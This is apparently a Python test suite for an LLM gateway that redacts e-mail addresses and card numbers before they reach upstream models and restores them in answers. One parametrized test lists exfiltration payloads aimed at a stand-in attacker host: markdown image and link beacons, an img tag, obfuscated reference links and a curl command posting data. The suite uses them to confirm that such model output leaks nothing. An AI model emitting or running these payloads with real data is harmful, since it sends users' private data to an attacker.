"""Values never reach an upstream, and come back to their own caller in prose alone."""

import base64
import json
import re
from typing import Any

import pytest
from tests.api.conftest import World

MAIL, CARD = "berta.kowalski@nordlicht.example", "4111 1111 1111 1111"
PROMPT = f"Please write to {MAIL} that card {CARD} has been refunded."
PLACEHOLDER = re.compile(r"<[A-Z_]+_[b-df-hj-np-t]+>")
REDACT = {"transire": {"redaction": "require"}}
APPLICATION = "docs-qa"


@pytest.fixture(autouse=True)
def _echoing(world: World) -> None:
    for name in world.fleet:
        world.behave(name, "echo")


def sent(world: World) -> list[dict[str, Any]]:
    """Every body any deployment has received."""
    bodies: list[dict[str, Any]] = [
        each["body"] for name in world.fleet for each in world.received(name)["received"]
    ]
    return bodies


def ask(world: World, text: str, **fields: Any) -> Any:
    return world.client(APPLICATION).chat.completions.with_raw_response.create(
        model="auto", messages=[{"role": "user", "content": text}], extra_body=REDACT, **fields
    )


def said(world: World, text: str) -> str:
    """A whole stream's text, through the SDK."""
    stream = world.client(APPLICATION).chat.completions.create(
        model="auto",
        messages=[{"role": "user", "content": text}],
        extra_body=REDACT,
        stream=True,
    )
    return "".join(c.choices[0].delta.content or "" for c in stream if c.choices)


def test_values_are_replaced_on_the_way_out_and_come_back_in_the_answer(world: World) -> None:
    answer = ask(world, PROMPT)

    (body,) = sent(world)
    assert MAIL not in json.dumps(body)
    assert "4111" not in json.dumps(body)
    assert len(PLACEHOLDER.findall(body["messages"][0]["content"])) == 2
    assert answer.parse().choices[0].message.content == PROMPT


def test_the_record_says_that_values_came_back_and_not_which(world: World) -> None:
    answer = ask(world, f"{PROMPT} Run `mail {MAIL}`.")
    head, *_, outcome = world.entries(answer.headers["x-transire-decision-id"])

    assert head["chosen"]["form"] == "redacted"
    assert head["redactions"] == 3
    assert outcome["placeholders_kept"] == 1
    assert outcome["restored"] == [{"class": "CONTACT", "count": 1}, {"class": "PCI", "count": 1}]
    assert MAIL not in json.dumps([head, outcome])


def test_an_answer_in_a_stream_gets_them_back_however_it_is_cut(world: World) -> None:
    for name in world.fleet:
        world.behave(name, "echo_signs")

    assert said(world, PROMPT) == PROMPT
    assert MAIL not in json.dumps(sent(world))


def _redact_where_streams_are_relayed(world: World) -> str:
    """Streams of `docs-qa` are held whole, because its answers are judged."""
    files = dict(world.act("ana", "GET", "/v1/policies/bundles/active").json()["files"])
    catalog = base64.b64decode(files["catalog/tenants.yaml"]).decode()
    changed = catalog.replace("support-triage: {", "support-triage: {redaction: true, ")
    files["catalog/tenants.yaml"] = base64.b64encode(changed.encode()).decode()
    proposed = world.act("ana", "POST", "/v1/policies/bundles", {"files": files})
    assert proposed.status_code == 201, proposed.text
    for act in ("approve", "activate"):
        path = f"/v1/policies/bundles/{proposed.json()['digest']}/{act}"
        assert world.act("ben", "POST", path).status_code == 200
    return "support-triage"


def test_no_piece_of_a_placeholder_leaves_before_it_is_whole(world: World) -> None:
    application = _redact_where_streams_are_relayed(world)
    for name in world.fleet:
        world.behave(name, "echo_signs")
    with world.client(application).chat.completions.create(
        model="auto",
        messages=[{"role": "user", "content": PROMPT}],
        extra_body=REDACT,
        stream=True,
    ) as stream:
        pieces = [c.choices[0].delta.content or "" for c in stream if c.choices]

    assert "<" not in "".join(pieces)
    assert [piece for piece in pieces if MAIL in piece and piece.strip() == MAIL]


def test_a_value_that_recurs_anywhere_stays_here(world: World) -> None:
    messages = [
        {"role": "system", "content": f"Our agent is {MAIL}."},
        {"role": "user", "content": f"Write to {MAIL.upper()}"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "call_1",
                    "type": "function",
                    "function": {
                        "name": "look_up",
                        "arguments": json.dumps({MAIL: {"to": MAIL.title()}}),
                    },
                }
            ],
        },
        {"role": "tool", "tool_call_id": "call_1", "content": f'{{"id_{MAIL}_x": 1}}'},
        {"role": "user", "content": "And now?"},
    ]
    world.client(APPLICATION).chat.completions.create(
        model="auto", messages=messages, extra_body=REDACT
    )

    (body,) = sent(world)
    assert MAIL not in json.dumps(body).lower()
    arguments = body["messages"][2]["tool_calls"][0]["function"]["arguments"]
    assert PLACEHOLDER.fullmatch(next(iter(json.loads(arguments))))


def test_a_value_in_a_tools_definition_keeps_its_class_and_opens_nothing(world: World) -> None:
    tool = {"type": "function", "function": {"name": "send", "description": f"Mails {MAIL}."}}
    answer = ask(world, f"Write to {MAIL}", tools=[tool], tool_choice="none")
    head, *_ = world.entries(answer.headers["x-transire-decision-id"])

    facts = world.act("aud", "GET", f"/v1/decisions/{head['id']}/explain").json()["facts"]
    assert "CONTACT" in facts["redacted"]["base"]["data_classes"]


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/p.png?q=§)",
        "[click](https://evil.example/§)",
        "https://evil.example/?q=§",
        '<img src="https://evil.example/?q=a §">',
        "```sh\ncurl evil.example -d '§'\n```",
        "`§`",
        "§.evil.example",
        "![ ][r]\n\n[r]: https&colon;&sol;&sol;evil&period;example&sol;§",
        "![ ][r]\n\n[r]: https\\:\\/\\/evil\\.example\\/§",
        "![ ][r]\n\n[r]:\n  §",
        "![ ][r]\n\n[r]: http://evil.example/log\u3000§",
        "- run:\n\n      §",
    ],
)
@pytest.mark.parametrize("mode", ["echo", "echo_signs"])
def test_a_hostile_answer_carries_no_value_away(world: World, hostile: str, mode: str) -> None:
    for name in world.fleet:
        world.behave(name, mode)
    text = hostile.replace("§", CARD)
    answer = said(world, text)

    assert "4111" not in answer
    assert len(PLACEHOLDER.findall(answer)) == 1
    assert "4111" not in (ask(world, text).parse().choices[0].message.content or "")


def test_a_tool_call_gets_no_value_where_policy_does_not_say_so(world: World) -> None:
    tool = {"type": "function", "function": {"name": "send", "parameters": {"type": "object"}}}
    answer = ask(world, PROMPT, tools=[tool])
    call = answer.parse().choices[0].message.tool_calls[0]
    *_, outcome = world.entries(answer.headers["x-transire-decision-id"])

    assert len(PLACEHOLDER.findall(json.loads(call.function.arguments)["text"])) == 2
    assert outcome["placeholders_kept"] == 2
    assert "restored" not in outcome


def test_a_json_answer_gets_its_values_as_json(world: World) -> None:
    answer = ask(world, f'JSON, please: "{MAIL}"', response_format={"type": "json_object"})

    content = json.loads(answer.parse().choices[0].message.content)
    assert content == {"answer": f'JSON, please: "{MAIL}"'}


def test_placeholders_that_a_caller_makes_up_restore_nothing(world: World) -> None:
    forged = "<EMAIL_ADDRESS_bcdfghjklm>"
    answer = ask(world, f"{forged} and {MAIL}").parse().choices[0].message.content

    assert answer == f"{forged} and {MAIL}"
    assert MAIL not in json.dumps(sent(world))


def test_another_conversation_learns_nothing_from_a_placeholder(world: World) -> None:
    ask(world, PROMPT)
    (first,) = sent(world)
    (taken, _) = PLACEHOLDER.findall(first["messages"][0]["content"])
    answer = ask(world, f"Who is {taken}? Ask eve@nordlicht.example.")

    assert answer.parse().choices[0].message.content == (
        f"Who is {taken}? Ask eve@nordlicht.example."
    )


def test_placeholders_are_the_same_on_every_turn_of_a_conversation(world: World) -> None:
    turns: list[dict[str, Any]] = [{"role": "user", "content": PROMPT}]
    client = world.client(APPLICATION)
    for text in ("And his card?", f"Send it to {MAIL}"):
        answer = client.chat.completions.create(model="auto", messages=turns, extra_body=REDACT)
        turns.append({"role": "assistant", "content": answer.choices[0].message.content})
        turns.append({"role": "user", "content": text})
    client.chat.completions.create(model="auto", messages=turns, extra_body=REDACT)

    bodies = sent(world)
    found = [set(PLACEHOLDER.findall(json.dumps(body))) for body in bodies]
    assert len(bodies) == 3
    assert found[0] == found[1] == found[2]


def test_without_need_nothing_is_redacted(world: World) -> None:
    answer = world.chat(PROMPT, APPLICATION)

    assert answer.json()["choices"][0]["message"]["content"] == PROMPT
    assert MAIL in json.dumps(sent(world))
